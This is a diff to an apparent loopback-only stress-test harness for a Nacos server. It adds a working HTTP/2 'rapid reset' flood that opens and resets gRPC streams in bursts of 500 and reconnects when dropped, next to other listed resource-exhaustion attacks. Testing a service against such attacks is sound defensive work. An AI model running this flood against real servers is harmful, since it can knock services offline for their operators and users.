@@ -24,6 +24,8 @@ Attacks (all with no credentials):
   clusters     40 subscriptions whose cluster filter is 7 MB of " ,"
   unaryonly    1,000 connections that only ever send ServerCheckRequest
   logflood     a set-up stream sends one-byte payloads as fast as it can
+  rapidreset   connections open streams and reset them at once, as fast as
+               they can (HTTP/2's "rapid reset"), reconnecting when dropped
 
 Traffic goes to loopback only; every wait is bounded; each node is stopped
 at the end of its attack.
@@ -56,7 +58,8 @@ from register import Child, residentBytes  # noqa: E402
 from distro import wire  # noqa: E402
 from distro.nacos.payload import Payload, encode  # noqa: E402
 
-ATTACKS = ["baseline", "nowindow", "silentsubs", "decoder", "labels", "clusters", "unaryonly", "logflood"]
+ATTACKS = ["baseline", "nowindow", "silentsubs", "decoder", "labels", "clusters", "unaryonly", "logflood",
+           "rapidreset"]
 
 
 def grpcMessage(type_, body=b"{}", raw=None):
@@ -355,6 +358,28 @@ def attack(name, nacos, seconds, pump, publisher):
             sent += 1000
             time.sleep(0.001)
         return f"about {sent} one-byte payloads"
+    if name == "rapidreset":
+        streams = connections = 0
+        client = None
+
+        def burst(client):
+            for _ in range(500):
+                streamId = client.h2.get_next_available_stream_id()
+                client.h2.send_headers(streamId, [
+                    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/BiRequestStream/requestBiStream"),
+                    (b":authority", b"n"), (b"content-type", b"application/grpc")])
+                client.h2.reset_stream(streamId)
+            client.flush()
+
+        while time.monotonic() < deadline:
+            if client is None or client.closed:
+                client = RawClient(nacos, window=None)
+                pump.add(client)
+                connections += 1
+            if _guarded(burst, client) is not None or not client.closed:
+                streams += 500
+            time.sleep(0.002)
+        return f"about {streams} streams opened and reset, over {connections} connections"
     raise SystemExit(f"unknown attack {name}")
 
 
